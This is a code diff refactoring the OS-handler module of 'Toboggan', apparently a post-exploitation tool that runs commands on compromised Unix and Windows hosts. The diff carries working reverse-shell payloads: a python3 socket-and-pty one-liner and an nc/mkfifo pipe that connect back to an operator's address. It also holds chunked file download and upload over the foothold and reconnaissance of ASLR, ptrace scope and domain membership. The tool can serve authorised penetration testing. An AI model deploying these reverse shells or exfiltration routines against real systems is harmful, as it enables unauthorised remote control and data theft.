@@ -3,6 +3,7 @@ import base64
 import gzip
 import time
 import re
+import zlib
 from abc import ABC, abstractmethod
 
 # Third party library imports
@@ -11,6 +12,33 @@ from tqdm import tqdm
 # Local library imports
 from toboggan.src import utils
 
+# Module variables definition
+
+REDIRECTION_PATTERN = re.compile(r"(1?>>?|2?>>?|>>?|[0-9]+>&[0-9]+)")
+CLIXML_OUTPUT_PATTERN = re.compile(r"^#< CLIXML\s*(.*?)\n<Objs", re.DOTALL)
+DOMAIN_PATTERN = re.compile(r"Domain:\s*(.*)")
+
+ASLR_MAPPING = {
+    "0": "No randomization. Everything is static.",
+    "1": "Shared libraries are randomized.",
+    "2": "Shared libraries, stack, mmap(), and VDSO pages are randomized.",
+}
+
+PTRACE_SCOPE_MAPPING = {
+    "0": "No restrictions. ptrace() can be used by any process on any other.",
+    "1": "Restricted ptrace(). Only parent processes can use ptrace() on direct child processes.",
+    "2": "Admin-only attach. Only admin processes can use ptrace().",
+    "3": "No attach. No process may use ptrace().",
+}
+
+KERNEL_SETTINGS_SEPARATOR = "---TOBOGGAN---"
+
+SYSTEM_INFO_KEYS = (
+    "OS Version",
+    "OS Manufacturer",
+    "OS Configuration",
+)
+
 
 class OSHandler(ABC):
     """Interface for handling OS-specific operations."""
@@ -111,7 +139,7 @@ class OSHandler(ABC):
 class UnixHandler(OSHandler):
     def prepare_command(self, command: str) -> str:
         # Verify if the user tries to control the redirection
-        if re.search(r"(1?>>?|2?>>?|>>?|[0-9]+>&[0-9]+)", command) is None:
+        if REDIRECTION_PATTERN.search(command) is None:
             command += " 2>&1"
 
         # Base64 the command
@@ -149,11 +177,13 @@ class UnixHandler(OSHandler):
 
     def unobfuscate_result(self, result: str) -> str:
         try:
-            # Decode the base64 string
-            decoded_result = base64.b64decode(result[::-1])
+            # Reverse and decode the base64 string as bytes
+            decoded_result = base64.b64decode(
+                result.encode("ascii")[::-1], validate=False
+            )
 
-            # Ungzip the reversed data
-            unzipped_result = gzip.decompress(decoded_result)
+            # Ungzip the reversed data, zlib handling the gzip framing directly
+            unzipped_result = zlib.decompress(decoded_result, wbits=utils.GZIP_WBITS)
 
             # Convert the unzipped data to a string
             output = unzipped_result.decode("utf-8", errors="replace")
@@ -191,14 +221,12 @@ class UnixHandler(OSHandler):
 
         remote_base64_path = f"{remote_path}_b64"
 
-        # Compress and encode the remote file
-        self._execute(
-            command=f"gzip -c {remote_path} | base64 -w0 > {remote_base64_path}"
-        )
-
-        # Calculate total size of the base64 encoded file
+        # Compress and encode the remote file, then calculate the total size
+        # of the base64 encoded file within the same request
         total_encoded_size = int(
-            self._execute(command=f"wc -c < {remote_base64_path}").strip()
+            self._execute(
+                command=f"gzip -c {remote_path} | base64 -w0 > {remote_base64_path};wc -c < {remote_base64_path}"
+            ).strip()
         )
         total_chunks = (total_encoded_size + chunk_size - 1) // chunk_size
 
@@ -228,37 +256,50 @@ class UnixHandler(OSHandler):
         # Prepare paths
         remote_base64_path = remote_path + "_b64"
 
+        uploaded = False
         try:
             # Send encoded file in chunks
-            for chunk in tqdm(
-                [
-                    encoded[i : i + chunk_size]
-                    for i in range(0, len(encoded), chunk_size)
-                ],
+            # Slice each chunk when it is sent rather than materialising them all
+            for offset in tqdm(
+                range(0, len(encoded), chunk_size),
                 unit="chunk",
                 desc="[Toboggan] Uploading",
             ):
+                chunk = encoded[offset : offset + chunk_size]
                 self._execute(f"/bin/echo '{chunk}' >> {remote_base64_path}")
-        except KeyboardInterrupt:
-            print("[Toboggan] Upload cancelled.")
-        else:
+
+            # Decode and clean up the temporary file within the same request
             self._execute(
-                f"/usr/bin/base64 -d {remote_base64_path}|gunzip > {remote_path}"
+                f"/usr/bin/base64 -d {remote_base64_path}|gunzip > {remote_path};rm -f {remote_base64_path}"
             )
+            uploaded = True
+        except KeyboardInterrupt:
+            print("[Toboggan] Upload cancelled.")
         finally:
-            self._execute(f"rm -f {remote_base64_path}")
+            # Chunks are appended, a leftover partial file would corrupt the next upload
+            if not uploaded:
+                self._execute(f"rm -f {remote_base64_path}")
 
     def reverse_shell(self, ip_addr: str, port: int = 443, shell: str = None) -> str:
         shell = shell or "/bin/bash"
-        if self._execute("command -v python3").strip():
+
+        # Locate every needed binary within a single request
+        available_binaries = {
+            location.rsplit("/", 1)[-1]
+            for location in self._execute(
+                "for binary in python3 nc mkfifo; do command -v $binary; done"
+            ).split()
+        }
+
+        if "python3" in available_binaries:
             self._execute(
                 f"""python3 -c 'import os,pty,socket;s=socket.socket();s.connect(("{ip_addr}",{port}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("{shell}")'""",
                 timeout=2,
                 retry=False,
             )
             print("[Toboggan] python revershell sent.")
-        elif self._execute("command -v nc").strip():
-            if self._execute("command -v mkfifo").strip():
+        elif "nc" in available_binaries:
+            if "mkfifo" in available_binaries:
                 self._execute(
                     f"rm /dev/shm/1;mkfifo /dev/shm/1;cat /dev/shm/1|{shell} -i 2>&1|nc {ip_addr} {port} >/dev/shm/1",
                     timeout=2,
@@ -288,8 +329,7 @@ class UnixHandler(OSHandler):
         self.__analyse_shell_nesting()
         # System-level security mechanisms
         self.__analyse_path_variable()
-        self.__analyse_aslr()
-        self.__analyse_ptrace_scope()
+        self.__analyse_kernel_protections()
 
     # Private methods
     def __analyse_readable_files_other_users(self) -> None:
@@ -337,37 +377,20 @@ class UnixHandler(OSHandler):
         for index, entry in enumerate(raw_path.split(":"), start=1):
             print(f"\t{index}. {entry}")
 
-    def __analyse_aslr(self) -> None:
-        # ASLR mapping
-        aslr_mapping = {
-            "0": "No randomization. Everything is static.",
-            "1": "Shared libraries are randomized.",
-            "2": "Shared libraries, stack, mmap(), and VDSO pages are randomized.",
-        }
-
-        aslr = self._execute(
-            command="/bin/cat /proc/sys/kernel/randomize_va_space"
-        ).strip()
+    def __analyse_kernel_protections(self) -> None:
+        # Read both kernel settings in a single request, split on a separator line
+        aslr, _, ptrace_scope = self._execute(
+            command=f"/bin/cat /proc/sys/kernel/randomize_va_space;/bin/echo {KERNEL_SETTINGS_SEPARATOR};/bin/cat /proc/sys/kernel/yama/ptrace_scope"
+        ).partition(KERNEL_SETTINGS_SEPARATOR)
+        aslr = aslr.strip()
+        ptrace_scope = ptrace_scope.strip()
 
         # Retrieve explanation from mapping, or set to "Unknown" if ASLR value isn't recognized
-        aslr_explanation = aslr_mapping.get(aslr, "Unknown")
+        aslr_explanation = ASLR_MAPPING.get(aslr, "Unknown")
         print(f"[Toboggan] ASLR ({aslr}): {aslr_explanation}")
 
-    def __analyse_ptrace_scope(self) -> None:
-        # ptrace_scope mapping
-        ptrace_scope_mapping = {
-            "0": "No restrictions. ptrace() can be used by any process on any other.",
-            "1": "Restricted ptrace(). Only parent processes can use ptrace() on direct child processes.",
-            "2": "Admin-only attach. Only admin processes can use ptrace().",
-            "3": "No attach. No process may use ptrace().",
-        }
-
-        ptrace_scope = self._execute(
-            command="/bin/cat /proc/sys/kernel/yama/ptrace_scope"
-        ).strip()
-
         # Retrieve explanation from mapping, or set to "Unknown" if ptrace_scope value isn't recognized
-        ptrace_scope_explanation = ptrace_scope_mapping.get(ptrace_scope, "Unknown")
+        ptrace_scope_explanation = PTRACE_SCOPE_MAPPING.get(ptrace_scope, "Unknown")
         print(f"[Toboggan] Ptrace Scope ({ptrace_scope}): {ptrace_scope_explanation}")
 
     def __analyse_shell_nesting(self) -> None:
@@ -477,9 +500,7 @@ class WindowsHandler(OSHandler):
         if "CLIXML" in result:
             # Attempt to detect and separate direct output from CLIXML content
 
-            if direct_output_match := re.match(
-                r"^#< CLIXML\s*(.*?)\n<Objs", result, re.DOTALL
-            ):
+            if direct_output_match := CLIXML_OUTPUT_PATTERN.match(result):
                 return direct_output_match.group(1)
 
         return result
@@ -549,11 +570,13 @@ class WindowsHandler(OSHandler):
         self._execute(f"Remove-Item -Path {remote_base64_path} -ErrorAction Ignore")
 
         # Send encoded file in chunks
-        for chunk in tqdm(
-            [encoded[i : i + chunk_size] for i in range(0, len(encoded), chunk_size)],
+        # Slice each chunk when it is sent rather than materialising them all
+        for offset in tqdm(
+            range(0, len(encoded), chunk_size),
             unit="chunk",
             desc="[Toboggan] Uploading",
         ):
+            chunk = encoded[offset : offset + chunk_size]
             self._execute(f"Add-Content -Value '{chunk}' -Path {remote_base64_path}")
 
         # Decode the base64 file
@@ -593,20 +616,13 @@ class WindowsHandler(OSHandler):
         return self._execute(command="(Get-Location).Path").strip()
 
     def _get_short_system_info(self) -> str:
-        # Define the keys of interest
-        keys_of_interest = [
-            "OS Version",
-            "OS Manufacturer",
-            "OS Configuration",
-        ]
-
         # Dictionary to hold our extracted values
         extracted_values = {}
 
         # Iterate through each line of the system info output
         for line in self._execute(command="systeminfo").strip().splitlines():
             # Check if the line contains any of the keys of interest
-            for key in keys_of_interest:
+            for key in SYSTEM_INFO_KEYS:
                 if line.startswith(key):
                     # Extract the value after the colon and strip it of leading/trailing whitespace
                     value = line.split(":", 1)[1].strip()
@@ -643,7 +659,7 @@ class WindowsHandler(OSHandler):
 
     def __check_domain_join(self) -> None:
         # Use regular expression to extract the domain from systeminfo output
-        if domain_match := re.search(
-            r"Domain:\s*(.*)", self._execute(command="systeminfo").strip()
+        if domain_match := DOMAIN_PATTERN.search(
+            self._execute(command="systeminfo").strip()
         ):
             print(f"[Toboggan] Domain is: {domain_match.group(1).strip()}")